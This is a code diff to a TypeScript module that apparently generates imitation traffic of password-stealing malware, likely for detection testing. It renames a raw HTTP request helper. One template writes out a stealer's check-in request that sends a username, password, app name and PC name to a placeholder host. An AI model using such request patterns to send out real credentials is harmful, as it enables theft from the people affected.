@@ -27,6 +27,10 @@ const arkei = (line: string, type?: string, body?: string): string =>
 const part = (boundary: string, name: string, content: string): string =>
   `--${boundary}\nContent-Disposition: form-data; name="${name}"; filename="${name}.zip"\n${content}\n--${boundary}--`;
 
+/** A request with two fields, as a program without a library writes it. */
+const plainRequest = (line: string): string =>
+  `${line} HTTP/1.1\nUser-Agent: HardCore Software For : Public\nHost: {host}\nCache-Control: no-cache\n\n`;
+
 /** Programs that send away what they find: passwords, wallets, forms. */
 export const stealers: readonly Imitation[] = [
   imitation(
@@ -138,7 +142,7 @@ export const stealers: readonly Imitation[] = [
     [
       again(
         4,
-        socketLike(
+        plainRequest(
           'GET /{folder=word}/index.php?action=add&username={user}{digits:2}&password={mixed:8}&app={pick:Firefox|Chrome|FileZilla}&pcname={computer}&sitename=http://{site}/',
         ),
       ),
@@ -224,8 +228,3 @@ export const stealers: readonly Imitation[] = [
     ANYRUN,
   ),
 ];
-
-/** A request with two fields, as a program without a library writes it. */
-function socketLike(line: string): string {
-  return `${line} HTTP/1.1\nUser-Agent: HardCore Software For : Public\nHost: {host}\nCache-Control: no-cache\n\n`;
-}
